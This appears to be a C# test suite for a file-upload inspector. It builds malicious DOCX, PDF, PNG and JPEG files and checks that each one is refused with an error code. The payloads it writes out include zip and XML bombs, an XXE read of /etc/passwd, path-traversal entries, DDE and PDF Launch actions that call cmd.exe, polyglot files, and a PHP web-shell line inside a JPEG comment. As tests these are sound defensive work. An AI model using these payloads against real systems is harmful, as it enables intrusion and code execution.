using Microsoft.Extensions.DependencyInjection;
using RegFiling.Tests.Support;
using RegFiling.Web.Platform.Files;
using static RegFiling.Tests.Support.TestFiles;

namespace RegFiling.Tests.Web.Files;

/// <summary>Files that are more than they seem, each built here: every one is refused by its name for what it is.</summary>
public sealed class HostileFileTests(HostileFileTests.App host) : IClassFixture<HostileFileTests.App>
{
    private static readonly byte[] Archive = Zip([("evil.html", Utf8("<script>alert(1)</script>"))]);

    /// <summary>By name: the bytes and the code of the refusal.</summary>
    private static readonly Dictionary<string, (Func<byte[]> Bytes, string Code)> Hostile = new()
    {
        ["docx: a part of 300 MB of blanks"] = (() => DocxWith(more: ("word/media/big.bin", new byte[300 * 1024 * 1024])), "form.file-bomb"),
        ["docx: shrinks to a thousandth"] = (() => DocxWith(more: ("word/media/big.bin", new byte[30 * 1024 * 1024])), "form.file-bomb"),
        ["docx: 3,000 entries"] = (() => DocxWith(more: [.. Enumerable.Range(0, 3000).Select(i => ($"word/media/{i}.txt", Utf8("x")))]), "form.file-bomb"),
        ["docx: deep XML"] = (() => DocxWith(body: "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">" + string.Concat(Enumerable.Repeat("<w:p>", 5000))), "form.file-bomb"),
        ["docx: an archive within"] = (() => DocxWith(more: ("word/media/nested.bin", Archive)), "form.file-embedded"),
        ["docx: entities"] = (() => DocxWith(body: "<!DOCTYPE a [<!ENTITY b \"c\"><!ENTITY d \"&b;&b;&b;\">]><a>&d;</a>"), "form.file-damaged"),
        ["docx: a file of the machine as entity"] = (() => DocxWith(body: "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"), "form.file-damaged"),
        ["docx: no XML"] = (() => DocxWith(body: "<w:document"), "form.file-damaged"),
        ["docx: path upwards"] = (() => DocxWith(more: ("../../evil.txt", Utf8("x"))), "form.file-entry"),
        ["docx: absolute path"] = (() => DocxWith(more: ("/etc/cron.d/x", Utf8("x"))), "form.file-entry"),
        ["docx: backslash path"] = (() => DocxWith(more: ("word\\evil.txt", Utf8("x"))), "form.file-entry"),
        ["docx: one name twice"] = (() => DocxWith(more: ("word/document.xml", Utf8("<a/>"))), "form.file-entry"),
        ["docx: macro project"] = (() => DocxWith(more: ("word/vbaProject.bin", Utf8("x"))), "form.file-macro"),
        ["docx: macro project under another name"] = (() => DocxWith(relations: Relation("http://schemas.microsoft.com/office/2006/relationships/&#118;baProject", "innocent.bin"), more: ("word/innocent.bin", Utf8("x"))), "form.file-macro"),
        ["docx: content type of .docm"] = (() => DocxWith(type: "application/vnd.ms-word.document.macroEnabled.main+xml"), "form.file-macro"),
        ["docx: template"] = (() => DocxWith(type: "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), "form.file-damaged"),
        ["docx: OLE object"] = (() => DocxWith(relations: Relation("oleObject", "embeddings/oleObject1.bin"), more: ("word/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1])), "form.file-embedded"),
        ["docx: OLE object as picture"] = (() => DocxWith(more: ("word/media/image1.png", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1])), "form.file-embedded"),
        ["docx: program as picture"] = (() => DocxWith(more: ("word/media/image1.png", Utf8("MZ\u0090\0"))), "form.file-embedded"),
        ["docx: ActiveX"] = (() => DocxWith(more: ("word/activeX/activeX1.xml", Utf8("<a/>"))), "form.file-embedded"),
        ["docx: HTML by reference"] = (() => DocxWith(relations: Relation("aFChunk", "chunk.html")), "form.file-embedded"),
        ["docx: template of elsewhere"] = (() => DocxWith(relations: Relation("attachedTemplate", "https://evil.invalid/a.dotm", outside: true)), "form.file-external"),
        ["docx: picture of elsewhere"] = (() => DocxWith(relations: Relation("image", "http://evil.invalid/pixel.png", outside: true)), "form.file-external"),
        ["docx: share of elsewhere"] = (() => DocxWith(relations: Relation("image", "\\\\evil.invalid\\a.png")), "form.file-external"),
        ["docx: script as link"] = (() => DocxWith(relations: Relation("hyperlink", "javascript:alert(1)", outside: true)), "form.file-external"),
        ["docx: DDE field"] = (() => DocxWith(body: Field("<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r>")), "form.file-active"),
        ["docx: DDE field in pieces"] = (() => DocxWith(body: Field("<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DE cmd</w:instrText></w:r>")), "form.file-active"),
        ["docx: something behind its end"] = (() => [.. DocxOf("a"), .. Utf8("<script>")], "form.file-damaged"),
        ["docx: something in the comment of the archive"] = (() => WithComment(DocxOf("a"), "<script>"), "form.file-trailing"),
        ["docx: cut off"] = (() => DocxOf("a")[..200], "form.file-damaged"),
        ["docx: only an archive"] = (() => Archive, "form.file-damaged"),
        ["doc: old Word"] = (() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1000]], "form.file-old-word"),
        ["pdf: JavaScript at opening"] = (() => PdfOf("x", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "form.file-active"),
        ["pdf: JavaScript with a name in numbers"] = (() => PdfOf("x", "/OpenAction << /S /#4a#61vaScript /J#53 (app.alert(1)) >>"), "form.file-active"),
        ["pdf: JavaScript in a compressed stream of objects"] = (() => PdfWithObjectStream("<< /S /JavaScript /JS (app.alert(1)) >>"), "form.file-active"),
        ["pdf: launch"] = (() => PdfOf("x", "/OpenAction << /S /Launch /F (cmd.exe) >>"), "form.file-active"),
        ["pdf: sends a form"] = (() => PdfOf("x", "/AA << /O << /S /SubmitForm /F (http://evil.invalid) >> >>"), "form.file-active"),
        ["pdf: dynamic form"] = (() => PdfOf("x", "/AcroForm << /XFA 6 0 R >>", "<< /Length 4 >>\nstream\n<a/>\nendstream"), "form.file-active"),
        ["pdf: program attached"] = (() => PdfOf("x", "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ12\nendstream"), "form.file-active"),
        ["pdf: program attached as data"] = (() => PdfOf("x", "/Names << /EmbeddedFiles << /Names [(a.xml) 6 0 R] >> >>", "<< /Type /Filespec /F (a.xml) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ12\nendstream"), "form.file-active"),
        ["pdf: encrypted"] = (() => PdfOfObjects(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /Filter /Standard /V 1 /R 2 /O (12345678901234567890123456789012) /U (12345678901234567890123456789012) /P -4 >>"], "/Encrypt 3 0 R /ID [(1234567890123456) (1234567890123456)]"), "form.file-encrypted"),
        ["pdf: archive behind it"] = (() => [.. Pdf, .. Archive], "form.file-polyglot"),
        ["pdf: archive behind it, an end added"] = (() => [.. Pdf, .. Archive, .. Utf8("\n%%EOF\n")], "form.file-polyglot"),
        ["pdf: page behind it"] = (() => [.. Pdf, .. Utf8("PAGE <b>1</b>")], "form.file-trailing"),
        ["pdf: page in its head"] = (() => [.. Utf8("%PDF-1.7\n%<html><script>alert(1)</script>\n"), .. Pdf], "form.file-polyglot"),
        ["pdf: nothing but a head"] = (() => Utf8("%PDF-1.7\n%%EOF"), "form.file-damaged"),
        ["png: archive behind it"] = (() => [.. Png, .. Archive], "form.file-trailing"),
        ["png: page behind it"] = (() => [.. Png, .. Utf8("<html>")], "form.file-trailing"),
        ["png: page in a text"] = (() => PngOf(3, 2, ("tEXt", Utf8("Comment\0<ScRiPt>alert(1)</script>"))), "form.file-polyglot"),
        ["png: archive in a text"] = (() => PngWithArchive(), "form.file-polyglot"),
        ["png: pixel flood"] = (() => PngOf(60_000, 60_000), "form.file-pixels"),
        ["png: more pixels than a number holds"] = (() => PngOf(int.MaxValue, int.MaxValue), "form.file-pixels"),
        ["png: no pixels"] = (() => PngOf(0, 1), "form.file-damaged"),
        ["png: cut off"] = (() => Png[..^5], "form.file-damaged"),
        ["png: nothing but a head"] = (() => Png[..8], "form.file-damaged"),
        ["jpeg: script behind it"] = (() => [.. JpegOf(4, 4), .. Utf8("<script>alert(1)</script>")], "form.file-trailing"),
        ["jpeg: archive behind it"] = (() => [.. JpegOf(4, 4), .. Archive], "form.file-trailing"),
        ["jpeg: script in a comment"] = (() => JpegOf(4, 4, Utf8("*/<?php system($_GET[0]); /*")), "form.file-polyglot"),
        ["jpeg: pixel flood"] = (() => JpegOf(65_000, 65_000), "form.file-pixels"),
        ["jpeg: cut off"] = (() => JpegOf(4, 4)[..^2], "form.file-damaged"),
        ["jpeg: nothing but a head"] = (() => [0xFF, 0xD8, 0xFF, 0xE0], "form.file-damaged"),
    };

    private FileInspector Inspector { get; } = host.Web.Services.GetRequiredService<FileInspector>();

    public static TheoryData<string> Names() => [.. Hostile.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task Refused_for_what_it_is(string name)
    {
        var (build, code) = Hostile[name];
        using var content = new MemoryStream(build());

        var look = await Inspector.LookAsync(content, TestContext.Current.CancellationToken);

        Assert.Equal(code, look.Fault?.Code);
        Assert.Null(look.Facts);
        Assert.All([look.Fault!.Why.Zh, look.Fault.Why.En, look.Fault.Next.Zh, look.Fault.Next.En], Assert.NotEmpty);
    }

    [Fact]
    public async Task What_is_only_what_it_seems_is_taken_with_its_text_and_measures()
    {
        var link = Relation("hyperlink", "https://demo.invalid/a", outside: true);
        Assert.Equal("第一行\n第二行 <b>", (await FactsAsync(DocxWith(relations: link, lines: ["第一行", "第二行 <b>"]))).Text);
        var pdf = await FactsAsync(PdfOf("Hello world"));
        Assert.Equal(("Hello world", 1, false), (pdf.Text, pdf.Pages, pdf.Cut));
        Assert.Equal((3, 2), await MeasuresAsync(Png));
        Assert.Equal((640, 480), await MeasuresAsync(JpegOf(640, 480, Utf8("taken in Shanghai"))));
        Assert.Equal((640, 480), await MeasuresAsync([.. JpegOf(640, 480), 0, 0, 0]));
        Assert.Equal("x", (await FactsAsync(PdfOf("x", "/Names << /EmbeddedFiles << /Names [(a.xml) 6 0 R] >> >>", "<< /Type /Filespec /F (a.xml) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 4 >>\nstream\n<a/>\nendstream"))).Text);
    }

    [Fact]
    public async Task A_long_document_is_taken_and_its_text_cut()
    {
        var facts = await FactsAsync(DocxOf([.. Enumerable.Repeat(new string('算', 1000), 300)]));
        Assert.True(facts.Cut);
        Assert.InRange(facts.Text!.Length, 150_000, 200_000);
    }

    [Fact]
    public async Task Noise_of_every_kind_is_refused_and_breaks_nothing()
    {
        var random = new Random(20261124);
        byte[][] heads = [Pdf, Png, JpegOf(64, 64), DocxOf("算法")];
        for (var round = 0; round < 200; round++)
        {
            var kind = round % 3 + 1;
            // A PDF costs a process of its own: a few of them only.
            var bytes = (byte[])heads[round % 40 == 0 ? 0 : kind].Clone();
            for (var changes = random.Next(1, 20); changes > 0; changes--)
                bytes[random.Next(8, bytes.Length)] = (byte)random.Next(256);
            if (random.Next(4) == 0)
                bytes = bytes[..random.Next(9, bytes.Length)];
            using var content = new MemoryStream(bytes);
            var look = await Inspector.LookAsync(content, TestContext.Current.CancellationToken);
            Assert.True(look.Fault is null != look.Facts is null);
        }
    }

    private async Task<RegFiling.Platform.Documents.FileFacts> FactsAsync(byte[] bytes)
    {
        using var content = new MemoryStream(bytes);
        var look = await Inspector.LookAsync(content, TestContext.Current.CancellationToken);
        Assert.Null(look.Fault?.Why.En);
        return look.Facts!;
    }

    private async Task<(int?, int?)> MeasuresAsync(byte[] bytes)
    {
        var facts = await FactsAsync(bytes);
        return (facts.Width, facts.Height);
    }

    private static string Field(string runs) =>
        $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";

    // An archive may end in a comment of any length: here the rest of the picture is its comment.
    private static byte[] PngWithArchive()
    {
        var picture = PngOf(3, 2, ("tEXt", Archive));
        var end = picture.AsSpan().IndexOf(Archive) + Archive.Length;
        (picture[end - 2], picture[end - 1]) = ((byte)(picture.Length - end), (byte)((picture.Length - end) >> 8));
        return picture;
    }

    private static byte[] WithComment(byte[] zip, string comment)
    {
        var bytes = Utf8(comment);
        var copy = (byte[])zip.Clone();
        copy[^2] = (byte)bytes.Length;
        return [.. copy, .. bytes];
    }

    /// <summary>The host whose services look into files.</summary>
    public sealed class App : IAsyncDisposable
    {
        public WebApp Web { get; } = new();

        public ValueTask DisposeAsync() => Web.DisposeAsync();
    }
}
